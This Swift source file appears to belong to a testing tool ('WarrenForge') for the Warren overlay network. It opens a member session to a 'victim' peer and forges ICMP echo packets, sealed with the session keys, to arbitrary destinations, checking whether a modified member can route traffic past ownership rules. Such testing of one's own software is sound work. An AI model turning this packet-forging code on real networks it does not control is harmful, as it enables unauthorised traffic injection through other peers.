import WarrenLinux
import WarrenMemberSession
import WarrenSession
import WarrenWire

extension WarrenForge {
    /// Sends the victim, inside the member's session, `count` ICMP echo requests from the
    /// member's own overlay address to each of `destinations`: what a member running modified
    /// code can send, whatever the destination (the member's own daemon routes only to owners).
    static func packets(config path: String, victimKey: String, victim: String, victimAddress: IPv4Address, count: Int,
                        destinations: [IPv4Address]) throws {
        let session = try MemberSession(config: path, victimKey: victimKey, victim: Endpoint(victim)!)
        guard case .v4(let source) = session.manager.certificate.body.ipv4.address,
              let keypair = session.manager.snapshot(now: MonotonicClock.now()).route(to: .v4(victimAddress))?.keypair else {
            fatalError("no session keys for the victim")
        }
        for destination in destinations {
            send(count, echoRequestsTo: destination, from: source, through: keypair, session: session)
        }
    }

    private static func send(_ count: Int, echoRequestsTo destination: IPv4Address, from source: IPv4Address, through keypair: Keypair,
                             session: MemberSession) {
        for sequence in 0..<count {
            let packet = echoRequest(from: source, to: destination, sequence: UInt16(sequence))
            var datagram = [UInt8](repeating: 0, count: TransportHeader.overhead + packet.count)
            datagram.replaceSubrange(TransportHeader.byteCount..<TransportHeader.byteCount + packet.count, with: packet)
            guard let length = datagram.withUnsafeMutableBytes({ keypair.seal($0, payloadCount: packet.count, now: MonotonicClock.now()) })
            else { fatalError("cannot seal") }
            _ = datagram.prefix(length).withUnsafeBytes { try? session.socket.send($0, to: session.victim) }
        }
        print("sent \(count) echo requests for \(destination) through the session")
    }

    /// A 28-byte IPv4 ICMP echo request with correct checksums.
    static func echoRequest(from source: IPv4Address, to destination: IPv4Address, sequence: UInt16) -> [UInt8] {
        var packet: [UInt8] = [0x45, 0, 0, 28, 0, 0, 0x40, 0, 64, 1, 0, 0] + source.bytes + destination.bytes
            + [8, 0, 0, 0, 0x77, 0x61, UInt8(sequence >> 8), UInt8(sequence & 0xff)]
        packet.withUnsafeMutableBytes { p in
            for (start, end, field) in [(0, 20, 10), (20, 28, 22)] {
                let sum = InternetChecksum.finish(InternetChecksum.add(UnsafeRawBufferPointer(rebasing: p[start..<end])))
                p.storeBytes(of: sum, toByteOffset: field, as: UInt16.self)
            }
        }
        return packet
    }
}
